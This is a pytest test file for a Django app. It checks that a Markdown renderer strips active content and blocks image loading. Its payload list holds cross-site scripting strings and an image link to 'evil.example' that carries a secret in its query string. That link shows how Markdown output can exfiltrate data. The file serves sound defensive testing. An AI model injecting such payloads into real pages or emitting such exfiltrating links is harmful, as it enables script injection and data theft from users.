"""Markdown from a model or a document becomes HTML with nothing active in it."""

import pytest
from bs4 import BeautifulSoup
from django.template import Context, Template

from citadel.core.markdown import render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<svg onload=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    '"><script>alert(1)</script>',
    "<a href='https://evil.example' onclick='x()'>x</a>",
    "[x](vbscript:msgbox(1))",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
]


def assert_inert(html: str):
    soup = BeautifulSoup(html, "lxml")
    assert not soup.find_all(["script", "img", "svg", "iframe", "style", "object", "embed", "form"])
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on")
            assert name != "style"
            if name in ("href", "src"):
                assert value.lower().startswith(("http://", "https://", "mailto:", "/", "#"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_render_inert(payload):
    assert_inert(render_markdown(payload))


def test_markdown_images_never_load_and_keep_their_alt_text():
    html = render_markdown("See ![the secret](https://evil.example/?q=secret) here")

    assert "evil.example" not in html
    assert "[image: the secret]" in html


def test_links_keep_their_target_and_get_rel_nofollow():
    soup = BeautifulSoup(render_markdown("[docs](https://docs.example/x)"), "lxml")

    link = soup.find("a")
    assert link["href"] == "https://docs.example/x"
    assert set(link["rel"]) == {"noopener", "noreferrer", "nofollow"}


def test_ordinary_markdown_keeps_its_structure():
    html = render_markdown("# Refunds\n\n* **14 days**\n* `code`\n\n> quoted")

    soup = BeautifulSoup(html, "lxml")
    assert soup.find("h1").text == "Refunds"
    assert soup.find("strong").text == "14 days"
    assert soup.find("code") and soup.find("blockquote")


def test_the_template_filter_renders_sanitized_markdown():
    template = Template("{% load citadel_tags %}{{ text|markdown_safe }}")

    html = template.render(Context({"text": "**bold** <script>alert(1)</script>"}))

    assert "<strong>bold</strong>" in html
    assert "<script>" not in html and "&lt;script&gt;" in html
